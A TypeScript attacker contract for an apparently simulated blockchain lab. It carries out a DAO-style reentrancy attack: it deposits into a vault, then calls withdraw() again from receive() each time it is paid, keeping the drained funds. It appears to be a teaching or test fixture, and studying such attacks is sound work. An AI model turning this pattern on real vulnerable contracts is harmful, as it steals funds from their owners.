// file: Attacker.ts
import { Contract, StorageValue, CallError, msg, require, emit } from 'chainlab';

// how many times receive() calls withdraw() again, at most (the call depth limit is 64 frames)
const MAX_REENTRIES = 20;

type Vault = { deposit(): void; withdraw(): void };

/**
 * Mallory's contract, in the style of The DAO's attacker: it deposits, withdraws, and calls
 * withdraw() again from receive() each time the vault pays it. It keeps what it gets.
 */
export default class Attacker extends Contract {
	vault = new StorageValue<string>('vault', '');
	owner = new StorageValue<string>('owner', '');
	deposited = new StorageValue<bigint>('deposited', 0n); // wei put into the vault
	payments = new StorageValue<number>('payments', 0); // times the vault paid it (msg.value > 0)
	received = new StorageValue<bigint>('received', 0n); // wei the vault paid it, in total
	reentries = new StorageValue<number>('reentries', 0); // withdraw() calls made from receive()
	refused = new StorageValue<number>('refused', 0); // of those, how many failed

	constructor(vault: string) {
		super();
		this.vault.set(vault);
		this.owner.set(msg.sender);
	}

	/** Deposit msg.value into the vault, then withdraw it once: receive() does the rest. */
	attack() {
		require(msg.sender === this.owner.get(), 'only the owner attacks');
		require(msg.value > 0n, 'send the stake with the call');
		Contract.at<Vault>(this.vault.get(), { value: msg.value }).deposit();
		this.deposited.set(this.deposited.get() + msg.value);
		Contract.at<Vault>(this.vault.get()).withdraw();
		emit('AttackDone', { received: this.received.get(), payments: this.payments.get() });
	}

	/** Runs each time the vault pays: before the vault's withdraw() has finished, call it again. */
	receive() {
		if (msg.sender !== this.vault.get()) return;
		if (msg.value > 0n) {
			this.payments.set(this.payments.get() + 1);
			this.received.set(this.received.get() + msg.value);
		}
		if (this.reentries.get() >= MAX_REENTRIES) return;
		this.reentries.set(this.reentries.get() + 1);
		try {
			Contract.at<Vault>(this.vault.get()).withdraw();
		} catch (error) {
			// the vault refused (or could not pay): stop re-entering, keep what came in
			this.refused.set(this.refused.get() + 1);
			const reason = error instanceof CallError ? error.reason : String(error);
			emit('ReentryRefused', { reason });
		}
	}
}
